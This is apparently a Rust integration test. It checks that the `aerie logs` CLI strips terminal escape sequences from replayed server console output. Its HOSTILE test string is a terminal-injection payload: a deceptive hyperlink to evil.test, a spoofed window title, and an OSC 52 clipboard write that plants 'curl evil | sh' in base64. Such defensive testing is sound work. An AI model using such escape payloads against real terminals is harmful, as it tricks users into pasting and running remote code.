//! `aerie logs` against the simulator: what reaches the user's terminal.
#![allow(clippy::unwrap_used)]

use std::time::Duration;

use aerie_core::panel::{PanelClient, RateLimits, Secret};
use aerie_sim::{Behaviour, BehaviourPlan, Profile, Sim, SimConfig, Timings};
use tokio::process::Command;

/// Guard against hangs; the command ends by itself once the replay has been printed.
const GUARD: Duration = Duration::from_secs(60);

/// A console line that would act on a terminal: colours (CSI, 7-bit and C1), a window title
/// (OSC 0), a clipboard write (OSC 52), an OSC 8 hyperlink whose text hides its target, a
/// cursor save, a carriage return and a backspace that could overwrite what was printed.
const HOSTILE: &str = "\u{1b}[31mLOGS-MARK red\u{1b}[0m \u{1b}]0;pwned title\u{7}\
     \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{1b}\\\
     \u{1b}]8;;https://evil.test/x\u{7}https://good.test\u{1b}]8;;\u{7} \
     \u{9b}1mbold\u{9b}0m \u{1b}7end\r\u{8}";

#[tokio::test]
async fn logs_prints_console_text_without_any_escape_sequence() {
    let sim = Sim::start(SimConfig {
        servers_per_node: 1,
        profile: Profile::PteroNew,
        timings: Timings::fast(),
        behaviours: BehaviourPlan::All(Behaviour::Idle),
        ..SimConfig::default()
    })
    .await
    .unwrap();
    let p = sim.panels()[0].clone();
    let server = p.servers[0].identifier.clone();
    // The line goes into the server's console log (`say` echoes it), which `aerie logs`
    // replays: no race with the command's own connection.
    let client = PanelClient::new(
        &p.url,
        Secret::new(p.client_key.clone()),
        RateLimits::default(),
    )
    .unwrap();
    client
        .send_command(&server, &format!("say {HOSTILE}"))
        .await
        .unwrap();
    assert!(
        sim.console_lines(&p.servers[0].uuid)
            .unwrap()
            .iter()
            .any(|l| l.contains("\u{1b}]8;;https://evil.test/x")),
        "the simulator logged the raw line"
    );

    let home = tempfile::tempdir().unwrap();
    let out = tokio::time::timeout(
        GUARD,
        Command::new(env!("CARGO_BIN_EXE_aerie"))
            .args([
                "logs",
                &server,
                "--panel",
                &p.url,
                "--key-env",
                "AERIE_TEST_KEY",
            ])
            .env("AERIE_TEST_KEY", &p.client_key)
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path())
            .env("XDG_DATA_HOME", home.path())
            .kill_on_drop(true)
            .output(),
    )
    .await
    .expect("aerie logs ends after the replay")
    .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let line = stdout
        .lines()
        .find(|l| l.contains("LOGS-MARK"))
        .unwrap_or_else(|| panic!("the line was not printed: {stdout:?}"));
    assert!(
        line.ends_with("[Server] LOGS-MARK red https://good.test bold end"),
        "the text is kept, the sequences are gone: {line:?}"
    );
    let control = stdout
        .chars()
        .find(|c| c.is_control() && *c != '\n' && *c != '\t');
    assert_eq!(control, None, "a control character reached the terminal");
    for hidden in ["evil.test", "pwned", "Y3VybCBldmlsIHwgc2g"] {
        assert!(!stdout.contains(hidden), "{hidden} was printed: {line:?}");
    }
    sim.shutdown().await;
}
